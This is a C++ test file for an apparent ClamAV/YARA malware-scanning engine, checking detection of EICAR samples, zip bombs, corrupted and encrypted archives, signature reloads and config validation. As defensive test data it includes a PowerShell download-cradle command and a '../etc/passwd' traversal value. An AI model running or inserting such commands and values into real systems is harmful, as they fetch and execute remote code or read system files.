#include "scan/scanner.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <fstream>
#include <random>
#include <thread>

#include "core/config.h"
#include "scan/test_util.h"
#include "scan/zip_directory.h"

namespace seccloud::scan {
namespace {

using namespace seccloud::scan::testing;
namespace fs = std::filesystem;

const fs::path kSource = SECCLOUD_SOURCE_DIR;
const fs::path kClamavDb = kSource / "etc/signatures/clamav";
const fs::path kYaraRules = kSource / "etc/signatures/yara";
const fs::path kTestFiles = "/usr/share/clamav-testfiles";
const fs::path kSignatureBase = kSource / "../shared/data/yara/signature-base";

ScanConfig TestConfig() {
  ScanConfig c;
  c.enabled = true;
  c.clamav_database = kClamavDb;
  c.yara_rules = {kYaraRules};
  return c;
}

class ScanEngineTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto e = ScanEngine::Create(TestConfig());
    ASSERT_TRUE(e) << e.error().ToString();
    engine_ = std::move(*e);
  }
  static void TearDownTestSuite() { engine_.reset(); }

  static Verdict Scan(const Bytes& data, std::string name = "") {
    ScanContext c;
    c.file_name = std::move(name);
    auto v = engine_->ScanBuffer(data, c);
    EXPECT_TRUE(v) << v.error().ToString();
    if (v) return *v;
    Verdict e;
    e.result = Verdict::kError;
    return e;
  }

  static std::unique_ptr<ScanEngine> engine_;
};
std::unique_ptr<ScanEngine> ScanEngineTest::engine_;

bool HasSignature(const Verdict& v, std::string_view prefix) {
  for (const auto& s : v.signatures)
    if (s.rfind(prefix, 0) == 0) return true;
  return false;
}

TEST_F(ScanEngineTest, EicarPlain) {
  Verdict v = Scan(ToBytes(kEicar), "eicar.com");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature")) << v.signatures.size();
  EXPECT_EQ(v.action, "block");
  EXPECT_NE(v.db_version.find("clamav:local-"), std::string::npos) << v.db_version;
}

TEST_F(ScanEngineTest, CleanTextIsClean) {
  Verdict v = Scan(ToBytes("Dear citizen, the office opens at 9:00.\n"), "note.txt");
  EXPECT_EQ(v.result, Verdict::kClean) << v.error;
  EXPECT_TRUE(v.signatures.empty());
  EXPECT_EQ(v.action, "allow");
  // An empty buffer is clean too.
  EXPECT_EQ(Scan({}).result, Verdict::kClean);
}

TEST_F(ScanEngineTest, EicarInZipAndNestedZip) {
  ZipWriter inner;
  inner.Add("eicar.com", ToBytes(kEicar));
  const Bytes zip = inner.Finish();
  // Deflated: the EICAR bytes do not appear in the archive itself.
  EXPECT_EQ(std::search(zip.begin(), zip.end(), kEicar.begin(), kEicar.end()), zip.end());
  Verdict v = Scan(zip, "eicar.zip");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature"));

  Bytes nested = zip;
  for (int depth = 0; depth < 3; ++depth) {
    ZipWriter w;
    w.Add("readme.txt", ToBytes("nothing here"));
    w.Add("level" + std::to_string(depth) + ".zip", nested);
    nested = w.Finish();
  }
  v = Scan(nested, "nested.zip");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature"));
}

TEST_F(ScanEngineTest, EicarAsBase64MailAttachment) {
  // base64 of the EICAR string, in a multipart message as a mail client writes it.
  const std::string b64 =
      "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNU\r\n"
      "LUZJTEUhJEgrSCo=\r\n";
  const std::string mail =
      "From: sender@example.jp\r\nTo: soumu@city.example.lg.jp\r\nSubject: "
      "=?UTF-8?B?6KuL5rGC5pu4?=\r\n"
      "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
      "--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nPlease see the attachment.\r\n"
      "--b1\r\nContent-Type: application/octet-stream; name=\"invoice.com\"\r\n"
      "Content-Disposition: attachment; filename=\"invoice.com\"\r\n"
      "Content-Transfer-Encoding: base64\r\n\r\n" +
      b64 + "--b1--\r\n";
  Verdict v = Scan(ToBytes(mail), "message.eml");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature"));
}

TEST_F(ScanEngineTest, EveryClamavTestFileIsDetected) {
  ASSERT_TRUE(fs::is_directory(kTestFiles)) << "install clamav-testfiles (scripts/install-deps)";
  int files = 0;
  for (const auto& entry : fs::directory_iterator(kTestFiles)) {
    if (!entry.is_regular_file()) continue;
    ++files;
    auto v = engine_->ScanFile(entry.path(), {});
    ASSERT_TRUE(v) << entry.path();
    EXPECT_EQ(v->result, Verdict::kInfected) << entry.path() << ": " << v->error;
    EXPECT_TRUE(HasSignature(*v, "ClamAV-Test-File")) << entry.path();
  }
  EXPECT_EQ(files, 44);  // Debian's clamav-testfiles 1.4
}

TEST_F(ScanEngineTest, ZipBombIsRefusedWithinLimits) {
  const Bytes bomb = ZipBomb();
  EXPECT_LT(bomb.size(), 16u << 20);
  EXPECT_GT(bomb.size(), 5u << 20);
  Verdict v = Scan(bomb, "invoice.zip");
  EXPECT_EQ(v.result, Verdict::kSuspicious) << v.error;
  EXPECT_TRUE(HasSignature(v, "Heuristics.Limits.Exceeded")) << v.error;
  EXPECT_EQ(v.action, "block");
  // Scanned again (libclamav's clean cache must not remember the trimmed members as clean).
  EXPECT_EQ(Scan(bomb, "again.zip").result, Verdict::kSuspicious);

  // With the limits policy "allow" the same archive passes, the reason kept.
  ScanConfig c = TestConfig();
  c.yara_enabled = false;
  c.limits_exceeded = ScanPolicy::kAllow;
  auto lenient = ScanEngine::Create(c);
  ASSERT_TRUE(lenient);
  auto lv = (*lenient)->ScanBuffer(bomb, {});
  ASSERT_TRUE(lv);
  EXPECT_EQ(lv->result, Verdict::kClean);
  EXPECT_NE(lv->error.find("Heuristics.Limits.Exceeded"), std::string::npos) << lv->error;
}

TEST_F(ScanEngineTest, EicarBehindTheBombIsStillFound) {
  // Limits stop extraction of the zeros, not the scan of the other members.
  ZipWriter w;
  w.Add("zeros.zip", ZerosZip(1), false);
  w.Add("eicar.com", ToBytes(kEicar));
  Verdict v = Scan(w.Finish());
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature"));
}

TEST_F(ScanEngineTest, TruncatedAndCorruptedArchivesNeverPassAsClean) {
  ZipWriter w;
  w.Add("eicar.com", ToBytes(kEicar));
  w.Add("report.txt", ToBytes(std::string(2000, 'a')));
  const Bytes zip = w.Finish();
  // Every truncation: a verdict, never a crash, and never "clean" for something that starts as
  // a ZIP (either the member is still found, or the archive is an error).
  for (size_t n = 4; n < zip.size(); ++n) {
    Bytes cut(zip.begin(), zip.begin() + static_cast<long>(n));
    Verdict v = Scan(cut);
    EXPECT_NE(v.result, Verdict::kClean) << "truncated to " << n;
  }
  // Random corruption: any verdict, no crash (ASan build checks memory).
  std::mt19937 rng(42);
  for (int i = 0; i < 300; ++i) {
    Bytes bad = zip;
    for (int j = 0; j < 4; ++j) bad[rng() % bad.size()] = static_cast<uint8_t>(rng());
    (void)Scan(bad);
  }
  // A broken directory with an intact first member: the member is still found.
  Bytes no_directory(zip.begin(), zip.begin() + static_cast<long>(zip.size() - 30));
  EXPECT_NE(Scan(no_directory).result, Verdict::kClean);
}

TEST_F(ScanEngineTest, CorruptZipWithoutMalwareIsAnError) {
  ZipWriter w;
  w.Add("report.txt", ToBytes(std::string(5000, 'b')));
  Bytes zip = w.Finish();
  zip.resize(zip.size() - 10);  // end record cut
  Verdict v = Scan(zip, "report.zip");
  EXPECT_EQ(v.result, Verdict::kError);
  EXPECT_NE(v.error.find("truncated"), std::string::npos) << v.error;
}

TEST_F(ScanEngineTest, EncryptedArchivePolicy) {
  ZipWriter exe;
  exe.AddEncrypted("請求書.pdf.exe", 4000);
  const Bytes with_exe = exe.Finish();
  ZipWriter doc;
  doc.AddEncrypted("minutes.docx", 4000);
  const Bytes with_doc = doc.Finish();

  // Default: block encrypted archives that contain executables.
  Verdict v = Scan(with_exe, "a.zip");
  EXPECT_EQ(v.result, Verdict::kSuspicious) << v.error;
  EXPECT_TRUE(HasSignature(v, "Heuristics.Encrypted")) << v.error;
  EXPECT_EQ(v.action, "block");
  v = Scan(with_doc, "b.zip");
  EXPECT_EQ(v.result, Verdict::kClean) << v.error;
  EXPECT_NE(v.error.find("Heuristics.Encrypted"), std::string::npos);

  ScanConfig c = TestConfig();
  c.yara_enabled = false;
  c.encrypted_archives = ScanPolicy::kQuarantine;
  auto strict = ScanEngine::Create(c);
  ASSERT_TRUE(strict);
  auto sv = (*strict)->ScanBuffer(with_doc, {});
  ASSERT_TRUE(sv);
  EXPECT_EQ(sv->result, Verdict::kSuspicious);
  EXPECT_EQ(sv->action, "quarantine");
}

TEST_F(ScanEngineTest, ShippedYaraRulesFire) {
  Verdict v = Scan(ToBytes("header\nSECCLOUD-YARA-TEST-MARKER-7f3a9c\ntrailer"), "x.bin");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_EQ(v.engine, "yara");
  EXPECT_TRUE(HasSignature(v, "SecCloud_Test_Marker"));
  v = Scan(
      ToBytes("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""),
      "run.ps1");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(v, "SecCloud_Test_Powershell_Download_Cradle"));
  EXPECT_NE(v.db_version.find("yara:local-"), std::string::npos);
}

// YARA sees archive members through libclamav's unpackers, at any depth, within the limits.
TEST_F(ScanEngineTest, YaraRulesFireOnArchiveMembers) {
  const Bytes marker = ToBytes("header\nSECCLOUD-YARA-TEST-MARKER-7f3a9c\ntrailer");
  ZipWriter zip;
  zip.Add("readme.txt", ToBytes("nothing to see"));
  zip.Add("payload.txt", marker);  // deflated: the marker is not in the ZIP's own bytes
  const Bytes zipped = zip.Finish();
  Verdict v = Scan(zipped, "invoice.zip");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_EQ(v.engine, "yara");
  EXPECT_TRUE(HasSignature(v, "SecCloud_Test_Marker [invoice.zip/payload.txt]"))
      << ::testing::PrintToString(v.signatures);

  // A zip inside a tar.gz: the member path names every layer libclamav names.
  const Bytes tgz = TarGz({{"docs/notes.txt", ToBytes("plain")}, {"docs/inner.zip", zipped}});
  v = Scan(tgz, "bundle.tar.gz");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_EQ(v.engine, "yara");
  ASSERT_FALSE(v.signatures.empty());
  EXPECT_TRUE(v.signatures.front().starts_with("SecCloud_Test_Marker [bundle.tar.gz/"))
      << v.signatures.front();
  EXPECT_NE(v.signatures.front().find("payload.txt]"), std::string::npos) << v.signatures.front();

  // A clean archive stays clean; ClamAV and YARA findings in one archive are both reported.
  ZipWriter clean;
  clean.Add("a.txt", ToBytes("hello"));
  EXPECT_EQ(Scan(clean.Finish(), "clean.zip").result, Verdict::kClean);
  // YARA member first here; AllMatchesShowsYaraTheMembersAfterAClamavHit has it after.
  ZipWriter both;
  both.Add("payload.txt", marker);
  both.Add("eicar.com", ToBytes(kEicar));
  v = Scan(both.Finish(), "both.zip");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_EQ(v.engine, "clamav+yara");
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature"));
  EXPECT_TRUE(HasSignature(v, "SecCloud_Test_Marker [both.zip/payload.txt]"));
}

// CL_SCAN_GENERAL_ALLMATCHES (the default): libclamav goes on after its first detection, so a
// YARA member after a ClamAV hit is seen and every ClamAV signature is reported. Without it,
// libclamav stops at the hit and the later member is never extracted.
TEST_F(ScanEngineTest, AllMatchesShowsYaraTheMembersAfterAClamavHit) {
  const Bytes marker = ToBytes("header\nSECCLOUD-YARA-TEST-MARKER-7f3a9c\ntrailer");
  ZipWriter z;
  z.Add("eicar.com", ToBytes(kEicar));
  z.Add("later.txt", marker);
  Bytes clam;
  if (std::ifstream in(kTestFiles / "clam.exe", std::ios::binary); in)
    clam.assign(std::istreambuf_iterator<char>(in), {});
  if (!clam.empty()) z.Add("clam.exe", clam);
  const Bytes zipped = z.Finish();

  Verdict v = Scan(zipped, "after.zip");
  EXPECT_EQ(v.result, Verdict::kInfected);
  EXPECT_EQ(v.engine, "clamav+yara");
  EXPECT_TRUE(HasSignature(v, "Eicar-Test-Signature")) << ::testing::PrintToString(v.signatures);
  // EICAR matches both its .hdb and its .ndb signature: named once.
  EXPECT_EQ(
      std::count_if(v.signatures.begin(), v.signatures.end(),
                    [](const std::string& s) { return s.starts_with("Eicar-Test-Signature"); }),
      1)
      << ::testing::PrintToString(v.signatures);
  EXPECT_TRUE(HasSignature(v, "SecCloud_Test_Marker [after.zip/later.txt]"))
      << ::testing::PrintToString(v.signatures);
  if (!clam.empty())
    EXPECT_TRUE(HasSignature(v, "ClamAV-Test-File")) << ::testing::PrintToString(v.signatures);

  // The same archive with all_matches off: the first hit ends the scan, YARA never sees the rest.
  ScanConfig first = TestConfig();
  first.clamav_all_matches = false;
  auto e = ScanEngine::Create(first);
  ASSERT_TRUE(e) << e.error().ToString();
  auto w = (*e)->ScanBuffer(zipped, {});
  ASSERT_TRUE(w);
  EXPECT_EQ(w->result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(*w, "Eicar-Test-Signature"));
  EXPECT_FALSE(HasSignature(*w, "SecCloud_Test_Marker")) << ::testing::PrintToString(w->signatures);
  EXPECT_FALSE(HasSignature(*w, "ClamAV-Test-File"));

  // Clean content is unaffected: a clean archive is still clean.
  ZipWriter clean;
  clean.Add("a.txt", ToBytes("hello"));
  EXPECT_EQ(Scan(clean.Finish(), "clean.zip").result, Verdict::kClean);
}

TEST(YaraScanner, SignatureBaseLoads) {
  if (!fs::is_directory(kSignatureBase)) GTEST_SKIP() << kSignatureBase << " not present";
  YaraLoadInfo info;
  const auto start = std::chrono::steady_clock::now();
  auto s = CreateYaraScanner({kSignatureBase}, &info);
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  ASSERT_TRUE(s) << s.error().ToString();
  std::printf("signature-base: %u files loaded, %u failed, %u rules, %.1f s\n", info.files_loaded,
              info.files_failed, info.rules, secs);
  for (const auto& f : info.failures) std::printf("  failed: %s\n", f.c_str());
  EXPECT_GE(info.files_loaded, 700u);
  EXPECT_GE(info.rules, 5000u);
  // A rule of the set fires on a crafted sample: the EICAR string is matched by several
  // signature-base rules? Not guaranteed; scan clean text and expect no error instead.
  auto v = (*s)->ScanBuffer(ToBytes("hello world"), {});
  ASSERT_TRUE(v);
  EXPECT_NE(v->result, Verdict::kError) << v->error;
}

TEST(YaraScanner, BrokenRuleFileIsSkippedAndReported) {
  const fs::path dir = fs::temp_directory_path() / ("scan-yara-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::ofstream(dir / "good.yar") << "rule Good { strings: $a = \"GOODGOOD\" condition: $a }\n";
  std::ofstream(dir / "bad.yar") << "rule Bad { strings: $a = \"x\" condition: $b }\n";
  YaraLoadInfo info;
  auto s = CreateYaraScanner({dir}, &info);
  ASSERT_TRUE(s) << s.error().ToString();
  EXPECT_EQ(info.files_loaded, 1u);
  EXPECT_EQ(info.files_failed, 1u);
  ASSERT_EQ(info.failures.size(), 1u);
  EXPECT_NE(info.failures[0].find("bad.yar"), std::string::npos) << info.failures[0];
  auto v = (*s)->ScanBuffer(ToBytes("xxGOODGOODxx"), {});
  ASSERT_TRUE(v);
  EXPECT_EQ(v->result, Verdict::kInfected);
  fs::remove_all(dir);
}

class ReloadTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("scan-reload-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_ / "clamav");
    fs::copy(kClamavDb, dir_ / "clamav", fs::copy_options::recursive);
    config_ = TestConfig();
    config_.clamav_database = dir_ / "clamav";
    config_.yara_enabled = false;
  }
  void TearDown() override { fs::remove_all(dir_); }
  fs::path dir_;
  ScanConfig config_;
};

TEST_F(ReloadTest, NewSignatureTakesEffectUnderLoadAndNoScanFails) {
  auto e = ScanEngine::Create(config_);
  ASSERT_TRUE(e);
  ScanEngine& engine = **e;
  const Bytes novel = ToBytes("municipal-test-sample: SECCLOUD-RELOAD-PROBE-31337 end");
  ASSERT_EQ(engine.ScanBuffer(novel, {})->result, Verdict::kClean);

  std::atomic<bool> stop{false};
  std::atomic<uint64_t> scans{0}, failures{0}, eicar_missed{0};
  std::atomic<int64_t> worst_us{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      const Bytes eicar = ToBytes(kEicar);
      const Bytes clean = ToBytes(std::string(4096, static_cast<char>('a' + t)));
      while (!stop.load()) {
        const auto start = std::chrono::steady_clock::now();
        auto a = engine.ScanBuffer(eicar, {});
        auto b = engine.ScanBuffer(clean, {});
        const int64_t us = std::chrono::duration_cast<std::chrono::microseconds>(
                               std::chrono::steady_clock::now() - start)
                               .count();
        int64_t prev = worst_us.load();
        while (us > prev && !worst_us.compare_exchange_weak(prev, us)) {
        }
        scans += 2;
        if (!a || !b || a->result == Verdict::kError || b->result != Verdict::kClean) ++failures;
        if (a && a->result != Verdict::kInfected) ++eicar_missed;
      }
    });
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  // An unchanged directory: nothing rebuilt.
  ReloadReport same = engine.Reload();
  EXPECT_FALSE(same.changed);
  std::ofstream(dir_ / "clamav" / "added.ndb")
      << "SecCloud-Reload-Probe:0:*:"
      << "534543434c4f55442d52454c4f41442d50524f42452d3331333337"
      << "\n";
  ReloadReport r = engine.Reload();
  EXPECT_TRUE(r.changed);
  EXPECT_TRUE(r.ok) << r.error;
  EXPECT_NE(r.db_version, r.previous_version);
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  // A broken file: the load fails, the old engine stays and keeps detecting.
  std::ofstream(dir_ / "clamav" / "broken.ndb") << "this is not a signature\n";
  ReloadReport bad = engine.Reload();
  EXPECT_TRUE(bad.changed);
  EXPECT_FALSE(bad.ok);
  EXPECT_EQ(bad.db_version, r.db_version);
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  stop = true;
  for (auto& t : threads) t.join();
  std::printf("reload under load: %llu scans, worst scan pair %lld us\n",
              static_cast<unsigned long long>(scans.load()),
              static_cast<long long>(worst_us.load()));
  EXPECT_GT(scans.load(), 100u);
  EXPECT_EQ(failures.load(), 0u);
  EXPECT_EQ(eicar_missed.load(), 0u);

  auto v = engine.ScanBuffer(novel, {});
  ASSERT_TRUE(v);
  EXPECT_EQ(v->result, Verdict::kInfected);
  EXPECT_TRUE(HasSignature(*v, "SecCloud-Reload-Probe"));
  const EngineStatus st = engine.status();
  EXPECT_EQ(st.reloads, 1u);
  EXPECT_EQ(st.reload_failures, 1u);
  EXPECT_FALSE(st.last_error.empty());
}

TEST_F(ReloadTest, SignaturesOlderThanMaxAgeAreStale) {
  auto now =
      std::make_shared<std::chrono::system_clock::time_point>(std::chrono::system_clock::now());
  config_.max_signature_age = std::chrono::hours(24);
  // Signature files a day and a half old.
  const auto old = fs::file_time_type::clock::now() - std::chrono::hours(36);
  for (const auto& f : fs::directory_iterator(dir_ / "clamav")) fs::last_write_time(f.path(), old);
  auto e = ScanEngine::Create(config_, [now] { return *now; });
  ASSERT_TRUE(e);
  EXPECT_TRUE((*e)->status().stale);
  // Fresh files after an update: no longer stale.
  for (const auto& f : fs::directory_iterator(dir_ / "clamav"))
    fs::last_write_time(f.path(), fs::file_time_type::clock::now());
  ReloadReport r = (*e)->Reload();
  EXPECT_TRUE(r.ok);
  EXPECT_FALSE((*e)->status().stale);
  *now += std::chrono::hours(25);
  EXPECT_TRUE((*e)->status().stale);
}

TEST(ZipDirectory, ReadsNamesAndFlagsAndRejectsTruncation) {
  ZipWriter w;
  w.Add("a.txt", ToBytes("aaa"));
  w.AddEncrypted("b.EXE", 10);
  const Bytes zip = w.Finish();
  internal::ZipDirectory d = internal::ReadZipDirectory(zip);
  ASSERT_TRUE(d.intact) << d.problem;
  ASSERT_EQ(d.members.size(), 2u);
  EXPECT_FALSE(d.members[0].encrypted);
  EXPECT_TRUE(d.members[1].encrypted);
  EXPECT_TRUE(internal::HasExecutableExtension(d.members[1].name));
  EXPECT_FALSE(internal::HasExecutableExtension(d.members[0].name));
  for (size_t n = 0; n < zip.size(); ++n) {
    internal::ZipDirectory t = internal::ReadZipDirectory({zip.data(), n});
    EXPECT_FALSE(t.intact) << n;
  }
}

TEST(ScanConfigSection, ParsesAndReportsErrors) {
  const std::string base =
      "node: {name: gw1, state_dir: /tmp}\nevents: {spool_dir: /tmp}\n"
      "supervisor: {admin: 127.0.0.1:0}\n";
  auto ok = LoadConfigFromString(
      base +
          "scan:\n  socket: /tmp/scand.sock\n  clamav: {database: sigs}\n"
          "  limits: {max_file_size: 10MiB, max_recursion: 8}\n"
          "  policy: {limits_exceeded: quarantine, encrypted_archives: block}\n"
          "  updates: {max_age: 12h}\n",
      "t.yaml", "/etc/x", LoadOptions{false});
  ASSERT_TRUE(ok) << ok.error().ToString();
  const ScanConfig& s = (*ok)->scan;
  EXPECT_TRUE(s.enabled);
  EXPECT_EQ(s.clamav_database, fs::path("/etc/x/sigs"));
  EXPECT_FALSE(s.yara_enabled);
  EXPECT_EQ(s.limits.max_file_bytes, 10u << 20);
  EXPECT_EQ(s.limits.max_recursion, 8u);
  EXPECT_EQ(s.limits_exceeded, ScanPolicy::kQuarantine);
  EXPECT_EQ(s.encrypted_archives, ScanPolicy::kBlock);
  EXPECT_EQ(s.max_signature_age, std::chrono::hours(12));
  EXPECT_TRUE(s.clamav_all_matches);  // the default
  auto first = LoadConfigFromString(
      base + "scan:\n  socket: /tmp/s.sock\n  clamav: {database: x, all_matches: false}\n",
      "t.yaml", "/etc/x", LoadOptions{false});
  ASSERT_TRUE(first) << first.error().ToString();
  EXPECT_FALSE((*first)->scan.clamav_all_matches);

  auto bad = LoadConfigFromString(base +
                                      "scan:\n  socket: /tmp/s.sock\n  clamav: {database: x}\n  "
                                      "policy: {limits_exceeded: maybe}\n",
                                  "t.yaml", "/etc/x", LoadOptions{false});
  ASSERT_FALSE(bad);
  EXPECT_NE(bad.error().ToString().find("scan.policy.limits_exceeded"), std::string::npos)
      << bad.error().ToString();
}

TEST(ScanConfigSection, MirrorSection) {
  const std::string base =
      "node: {name: gw1, state_dir: /tmp}\nevents: {spool_dir: /tmp}\n"
      "supervisor: {admin: 127.0.0.1:0}\n"
      "scan:\n  socket: /tmp/scand.sock\n  clamav: {database: sigs}\n  updates:\n    mirror:\n";
  auto load = [&](const std::string& mirror) {
    return LoadConfigFromString(base + mirror, "t.yaml", "/etc/x", LoadOptions{false});
  };
  auto defaults = load("      url: http://192.0.2.10:8080/clamav/\n");
  ASSERT_TRUE(defaults) << defaults.error().ToString();
  const ScanMirrorConfig& d = (*defaults)->scan.mirror;
  EXPECT_EQ(d.url, "http://192.0.2.10:8080/clamav");  // trailing '/' dropped
  EXPECT_EQ(d.databases, (std::vector<std::string>{"main.cvd", "daily.cvd", "bytecode.cvd"}));
  EXPECT_FALSE(d.allow_unsigned);
  EXPECT_EQ(d.interval, std::chrono::hours(1));

  auto custom = load(
      "      url: http://127.0.0.1:8080/m\n      databases: [daily.cvd, custom.cud]\n"
      "      allow_unsigned: true\n      interval: 10m\n      timeout: 30s\n"
      "      max_download_size: 64MiB\n");
  ASSERT_TRUE(custom) << custom.error().ToString();
  const ScanMirrorConfig& c = (*custom)->scan.mirror;
  EXPECT_EQ(c.databases, (std::vector<std::string>{"daily.cvd", "custom.cud"}));
  EXPECT_TRUE(c.allow_unsigned);
  EXPECT_EQ(c.interval, std::chrono::minutes(10));
  EXPECT_EQ(c.timeout, std::chrono::seconds(30));
  EXPECT_EQ(c.max_download_bytes, 64u << 20);

  const std::vector<std::pair<std::string, std::string>> bad = {
      {"      url: https://mirror.example/clamav\n", "scan.updates.mirror.url"},
      {"      url: http://127.0.0.1:8080/m\n      databases: [custom.cud]\n", "allow_unsigned"},
      {"      url: http://127.0.0.1:8080/m\n      databases: [../etc/passwd.cvd]\n",
       "not a container name"},
      {"      url: http://127.0.0.1:8080/m\n      databases: [daily.cvd, daily.cvd]\n",
       "listed twice"},
      {"      url: http://127.0.0.1:8080/m\n      databases: [daily.ndb]\n", "container"},
      {"      url: http://127.0.0.1:8080/m\n      interval: 10ms\n", "interval"},
      {"      databases: [daily.cvd]\n", "url"},
  };
  for (const auto& [yaml, want] : bad) {
    auto r = load(yaml);
    ASSERT_FALSE(r) << yaml;
    EXPECT_NE(r.error().ToString().find(want), std::string::npos) << r.error().ToString();
  }
}

}  // namespace
}  // namespace seccloud::scan
